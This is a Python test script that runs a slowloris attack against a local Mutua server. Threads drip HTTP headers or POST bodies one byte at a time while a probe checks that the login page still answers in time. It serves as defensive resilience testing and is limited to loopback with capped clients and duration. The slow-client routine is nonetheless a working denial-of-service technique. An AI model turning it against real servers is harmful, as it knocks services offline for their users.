"""Slow clients (slowloris) against a Mutua server, while a page is asked for as usual.

    python scripts/slow_clients.py https://127.0.0.1:8443 [--clients 20] [--seconds 20]
        [--interval 2] [--probe /accounts/login/] [--within 1] [--header 'Name: value']
        [--expect answered|stalled]

Half of the clients send a request's headers one byte every --interval seconds and never finish
them; the other half send whole headers announcing a body, then the body one byte at a time.
When the server closes one, it opens again, until --seconds have passed. Meanwhile a normal
client asks for --probe every half second, each answer due --within seconds.

--expect answered (the default): exit 1 unless every probe got its page in time (the site
behind nginx). --expect stalled: print what happened and exit 0 either way (evidence: gunicorn
alone, whose sync workers wait on the slow clients). Only ever aimed at 127.0.0.1 here; the
number of clients and the duration are bounded.
"""

from __future__ import annotations

import argparse
import http.client
import select
import socket
import ssl
import statistics
import sys
import threading
import time
import urllib.parse
from dataclasses import dataclass, field

MAX_CLIENTS = 200
MAX_SECONDS = 120


def tls_context() -> ssl.SSLContext:
    """The loopback check uses a throwaway self-signed certificate: no verification."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


@dataclass
class Target:
    scheme: str
    host: str
    port: int
    headers: dict[str, str]

    def connect(self, timeout: float) -> socket.socket:
        raw = socket.create_connection((self.host, self.port), timeout=timeout)
        if self.scheme == "https":
            return tls_context().wrap_socket(raw, server_hostname=self.host)
        return raw

    def extra_headers(self) -> bytes:
        return b"".join(f"{k}: {v}\r\n".encode() for k, v in self.headers.items())


@dataclass
class SlowStats:
    opened: int = 0
    cut: int = 0  # closed (or answered 408) by the server before we were done
    refused: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, **counts: int) -> None:
        with self.lock:
            for name, value in counts.items():
                setattr(self, name, getattr(self, name) + value)


def server_spoke(sock: socket.socket) -> bool:
    """True once the server answered (408) or closed the connection: it cut us."""
    readable, _, _ = select.select([sock], [], [], 0)
    if not readable:
        return False
    sock.setblocking(False)
    try:
        sock.recv(4096)  # an answer, or b"" once closed
        return True
    except (ssl.SSLWantReadError, BlockingIOError):
        return False  # TLS housekeeping (a session ticket), nothing for the application
    except OSError:
        return True
    finally:
        sock.settimeout(5)


def slow_client(
    target: Target, kind: str, interval: float, deadline: float, stats: SlowStats
) -> None:
    host = f"{target.host}:{target.port}"
    if kind == "headers":
        start = f"GET /accounts/login/ HTTP/1.1\r\nHost: {host}\r\n".encode()
        start += target.extra_headers() + b"X-Slow: "
        drip = b"a"
    else:
        start = (
            f"POST /accounts/login/ HTTP/1.1\r\nHost: {host}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n"
        ).encode()
        start += target.extra_headers() + b"\r\nlogin="
        drip = b"a"
    while time.monotonic() < deadline:
        try:
            sock = target.connect(timeout=5)
        except OSError:
            stats.add(refused=1)
            time.sleep(interval)
            continue
        stats.add(opened=1)
        try:
            sock.sendall(start)
            while time.monotonic() < deadline:
                time.sleep(min(interval, max(0.0, deadline - time.monotonic())))
                if time.monotonic() >= deadline:
                    break
                if server_spoke(sock):
                    stats.add(cut=1)
                    break
                sock.sendall(drip)
        except (OSError, ssl.SSLError):
            stats.add(cut=1)
        finally:
            sock.close()


@dataclass
class Probe:
    at: float
    seconds: float
    status: int | None
    error: str = ""


def probe_once(target: Target, path: str, within: float, started: float) -> Probe:
    begin = time.monotonic()
    connection: http.client.HTTPConnection
    if target.scheme == "https":
        connection = http.client.HTTPSConnection(
            target.host, target.port, timeout=within, context=tls_context()
        )
    else:
        connection = http.client.HTTPConnection(target.host, target.port, timeout=within)
    try:
        connection.request("GET", path, headers=target.headers)
        response = connection.getresponse()
        response.read()
        return Probe(begin - started, time.monotonic() - begin, response.status)
    except (OSError, http.client.HTTPException) as exc:
        return Probe(begin - started, time.monotonic() - begin, None, type(exc).__name__)
    finally:
        connection.close()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url", help="e.g. https://127.0.0.1:8443 (loopback only)")
    parser.add_argument("--clients", type=int, default=20)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--interval", type=float, default=2)
    parser.add_argument("--probe", default="/accounts/login/")
    parser.add_argument("--within", type=float, default=1.0)
    parser.add_argument("--header", action="append", default=[])
    parser.add_argument("--expect", choices=("answered", "stalled"), default="answered")
    parser.add_argument("--label", default="")
    args = parser.parse_args()

    url = urllib.parse.urlsplit(args.url)
    if url.hostname not in ("127.0.0.1", "::1", "localhost"):
        parser.error("slow clients are only aimed at this machine (127.0.0.1)")
    if not 0 < args.clients <= MAX_CLIENTS or not 0 < args.seconds <= MAX_SECONDS:
        parser.error(f"at most {MAX_CLIENTS} clients and {MAX_SECONDS} seconds")
    headers = dict(h.split(":", 1) for h in args.header)
    target = Target(
        url.scheme,
        url.hostname,
        url.port or (443 if url.scheme == "https" else 80),
        {k.strip(): v.strip() for k, v in headers.items()},
    )

    # Warm every worker first (templates and translations load on a worker's first pages).
    for _ in range(6):
        probe_once(target, args.probe, 10, time.monotonic())
    stats = SlowStats()
    started = time.monotonic()
    deadline = started + args.seconds
    clients = [
        threading.Thread(
            target=slow_client,
            args=(target, "headers" if n % 2 == 0 else "body", args.interval, deadline, stats),
            daemon=True,
        )
        for n in range(args.clients)
    ]
    for client in clients:
        client.start()
    time.sleep(min(1.0, args.seconds / 4))  # the slow clients are in before the first probe
    probes: list[Probe] = []
    while time.monotonic() < deadline - args.within:
        probes.append(probe_once(target, args.probe, args.within, started))
        time.sleep(max(0.0, 0.5 - probes[-1].seconds))
    for client in clients:
        client.join(timeout=args.interval + 10)

    in_time = [p for p in probes if p.status == 200 and p.seconds <= args.within]
    late = [p for p in probes if p not in in_time]
    label = f"[{args.label}] " if args.label else ""
    print(
        f"{label}{args.clients} slow clients ({(args.clients + 1) // 2} dripping headers, "
        f"{args.clients // 2} dripping a body), one byte every {args.interval:g} s for "
        f"{args.seconds:g} s: {stats.opened} connections opened, {stats.cut} cut by the server, "
        f"{stats.refused} refused"
    )
    times = sorted(p.seconds for p in in_time)
    summary = (
        f"median {statistics.median(times):.3f} s, slowest {times[-1]:.3f} s" if times else "none"
    )
    print(
        f"{label}GET {args.probe} every 0.5 s meanwhile, each due within {args.within:g} s: "
        f"{len(in_time)}/{len(probes)} answered in time ({summary})"
    )
    for probe in late[:5]:
        what = probe.error or f"status {probe.status}"
        print(f"{label}  at {probe.at:5.1f} s: {what} after {probe.seconds:.2f} s")
    if len(late) > 5:
        print(f"{label}  ... and {len(late) - 5} more late or failed")
    if args.expect == "answered":
        return 0 if probes and not late else 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
